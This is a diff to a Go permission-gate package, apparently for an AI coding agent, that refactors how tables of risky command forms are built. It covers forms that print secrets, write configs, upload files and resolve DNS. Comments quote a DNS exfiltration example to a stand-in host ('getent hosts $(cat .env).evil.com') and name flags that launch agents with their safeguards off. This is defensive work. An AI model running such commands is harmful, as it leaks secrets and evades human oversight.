@@ -1,7 +1,6 @@
 package gate
 
 import (
-	"maps"
 	"slices"
 	"strings"
 	"sync"
@@ -19,21 +18,25 @@ type subcmd struct {
 	not   map[string]bool // operands after the path that it does not cover
 }
 
-// subcmdTable builds a table from "sub path -flag|--flag" specs: words
-// after the path that start with "-" are alternative options, one of which
-// must be present; a "!a|b" word lists words right after the path (or
-// their last dotted part: profile.dev.region) that it does not cover.
-// A "prog-*" key covers every program named prog-…. The table is parsed on
-// its first lookup: a process that never looks (a hook call that only
-// records an outcome) does not pay for it at start-up.
-func subcmdTable(specs map[string][]string) func() map[string][]subcmd {
-	return sync.OnceValue(func() map[string][]subcmd { return parseSubcmds(specs) })
-}
-
-// toolSubcmdTable is subcmdTable of specs and the forms the tools'
-// entries give (field), joined on its first lookup too.
-func toolSubcmdTable(field func(*cmds.Tool) []string, specs map[string][]string) func() map[string][]subcmd {
-	return sync.OnceValue(func() map[string][]subcmd { return parseSubcmds(withTools(field, specs)) })
+// toolForms is the table of the forms the tools' entries give in field
+// (cmds.Tool's Secrets, Uploads, …), by program, in the spec language
+// "sub path -flag|--flag !a|b": words after the path that start with "-"
+// are alternative options, one of which must be present; a "!a|b" word
+// lists words right after the path (or their last dotted part:
+// profile.dev.region) that it does not cover. A "prog-*" entry covers
+// every program named prog-…. The table is parsed on its first lookup: a
+// process that never looks (a hook call that only records an outcome)
+// does not pay for it at start-up.
+func toolForms(field func(*cmds.Tool) []string) func() map[string][]subcmd {
+	return sync.OnceValue(func() map[string][]subcmd {
+		specs := map[string][]string{}
+		for _, t := range cmds.Tools() {
+			if forms := field(t); forms != nil {
+				specs[t.Name] = forms
+			}
+		}
+		return parseSubcmds(specs)
+	})
 }
 
 func parseSubcmds(specs map[string][]string) map[string][]subcmd {
@@ -63,50 +66,50 @@ func parseSubcmds(specs map[string][]string) map[string][]subcmd {
 // secretPrinters print a credential or a decrypted secret: a read as
 // sensitive as the file or keychain it comes from: the cmds.Tool entries'
 // Secrets.
-var secretPrinters = toolSubcmdTable(func(t *cmds.Tool) []string { return t.Secrets }, nil)
+var secretPrinters = toolForms(func(t *cmds.Tool) []string { return t.Secrets })
 
 // configWriters change a configuration that later runs commands or loads
 // code (hooks, scheduled jobs, credential helpers, extensions, package
 // indexes, plugins): persistence, outside what the project's files show:
 // the cmds.Tool entries' Configures.
-var configWriters = toolSubcmdTable(func(t *cmds.Tool) []string { return t.Configures }, nil)
+var configWriters = toolForms(func(t *cmds.Tool) []string { return t.Configures })
 
 // pathInstallers install programs into a directory on the PATH outside
 // the project (~/.cargo/bin, ~/go/bin, ~/.local/bin), like npm install -g:
 // a write outside the project that every later shell may run: the
 // cmds.Tool entries' OntoPath forms.
-var pathInstallers = toolSubcmdTable(func(t *cmds.Tool) []string { return t.OntoPath }, nil)
+var pathInstallers = toolForms(func(t *cmds.Tool) []string { return t.OntoPath })
 
 // uploaders send the files they name (operands, --*file* values) to a
 // remote service, like gsutil cp and gh gist create: the cmds.Tool
 // entries' Uploads forms.
-var uploaders = toolSubcmdTable(func(t *cmds.Tool) []string { return t.Uploads }, nil)
+var uploaders = toolForms(func(t *cmds.Tool) []string { return t.Uploads })
 
 // resolvers look a name up in DNS: the name travels to the resolver and on
 // to the server of its domain, so a secret spelled into it leaves the
 // machine (getent hosts $(cat .env).evil.com) like a URL does: the
 // cmds.Tool entries' Resolves.
-var resolvers = toolSubcmdTable(func(t *cmds.Tool) []string { return t.Resolves }, nil)
+var resolvers = toolForms(func(t *cmds.Tool) []string { return t.Resolves })
 
 // systemChangers change the system outside any project: macOS settings,
 // launchd jobs and sessions, the keychains and trust store, disks (SPEC
 // §5.4: human-only like their Linux counterparts): the cmds.Tool
 // entries' ChangesSystem.
-var systemChangers = toolSubcmdTable(func(t *cmds.Tool) []string { return t.ChangesSystem }, nil)
+var systemChangers = toolForms(func(t *cmds.Tool) []string { return t.ChangesSystem })
 
 // unguarded run another agent with its permission checks, sandbox or hooks
 // turned off (claude --dangerously-skip-permissions, gemini --yolo): what
 // it then does passes no gate at all; the cmds.Tool entries' Unguarded.
-var unguarded = toolSubcmdTable(func(t *cmds.Tool) []string { return t.Unguarded }, nil)
+var unguarded = toolForms(func(t *cmds.Tool) []string { return t.Unguarded })
 
 // servers serve the repository or the machine to the network on every
 // interface (git daemon, git instaweb): the cmds.Tool entries' Serves.
-var servers = toolSubcmdTable(func(t *cmds.Tool) []string { return t.Serves }, nil)
+var servers = toolForms(func(t *cmds.Tool) []string { return t.Serves })
 
 // openers hand their operand to the desktop's default application: a URL
 // goes to the browser, which fetches it; an app or a script runs: the
 // cmds.Tool entries' Opens.
-var openers = toolSubcmdTable(func(t *cmds.Tool) []string { return t.Opens }, nil)
+var openers = toolForms(func(t *cmds.Tool) []string { return t.Opens })
 
 // opensApp reports an opener told to start an application (-a APP, -b ID,
 // an .app bundle, a script macOS runs in Terminal) or to open a URL.
@@ -259,22 +262,4 @@ func installsNothing(lb string, args []word) bool {
 	}
 	t := cmds.ToolOf(lb)
 	return t != nil && slices.ContainsFunc(t.DryRuns, func(f string) bool { return hasFlag(args, f) })
-}
-
-// withTools adds to a subcommand table's specs the forms the tools'
-// entries give (field): a program's forms are in one place or the other.
-func withTools(field func(*cmds.Tool) []string, specs map[string][]string) map[string][]string {
-	out := maps.Clone(specs)
-	if out == nil {
-		out = map[string][]string{}
-	}
-	for _, t := range cmds.Tools() {
-		if forms := field(t); forms != nil {
-			if _, dup := out[t.Name]; dup {
-				panic("gate: " + t.Name + "'s subcommand forms are declared twice")
-			}
-			out[t.Name] = forms
-		}
-	}
-	return out
 }
